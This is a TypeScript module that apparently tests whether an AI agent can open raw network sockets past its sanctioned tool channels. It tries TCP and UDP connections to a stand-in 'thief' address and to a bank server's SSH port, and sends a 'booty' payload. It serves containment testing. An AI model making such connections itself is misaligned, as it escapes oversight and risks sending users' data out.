import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { connect } from 'node:net';

/** A socket that the agent opened by itself, past whatever its tools and its LLM are reached through. */
export interface SocketAttempt {
  readonly proto: 'tcp' | 'udp';
  readonly host: string;
  readonly address: string;
  readonly port: number;
  /** `connected`, `sent`, `timeout`, or the code of the error. */
  readonly outcome: string;
}

/** Where a thief would send the booty: an address of nobody (RFC 5737). */
const outside = '192.0.2.66';
const timeoutMs = 2_000;

/** Tries the outside world and the bank's own server, by TCP and by UDP, side by side. */
export async function openSockets(mcpUrl: string): Promise<readonly SocketAttempt[]> {
  const { hostname, port } = new URL(mcpUrl);
  const { address } = await lookup(hostname, 4);
  const bank = { host: hostname, address };
  const nobody = { host: outside, address: outside };
  return Promise.all([
    openTcp({ proto: 'tcp', ...nobody, port: 443 }),
    openTcp({ proto: 'tcp', ...bank, port: 22 }),
    sendUdp({ proto: 'udp', ...nobody, port: 53 }),
    sendUdp({ proto: 'udp', ...bank, port: Number(port || 80) }),
  ]);
}

type Target = Omit<SocketAttempt, 'outcome'>;

function openTcp(target: Target): Promise<SocketAttempt> {
  return new Promise((resolve) => {
    const socket = connect({ host: target.address, port: target.port, timeout: timeoutMs });
    const end = (outcome: string) => {
      socket.destroy();
      resolve({ ...target, outcome });
    };
    socket.on('connect', () => end('connected'));
    socket.on('timeout', () => end('timeout'));
    socket.on('error', (error) => end(codeOf(error)));
  });
}

function sendUdp(target: Target): Promise<SocketAttempt> {
  return new Promise((resolve) => {
    const socket = createSocket('udp4');
    const end = (error: Error | null) => {
      socket.close();
      resolve({ ...target, outcome: error === null ? 'sent' : codeOf(error) });
    };
    socket.send('booty', target.port, target.address, end);
  });
}

function codeOf(error: Error): string {
  return 'code' in error ? String(error.code) : error.message;
}
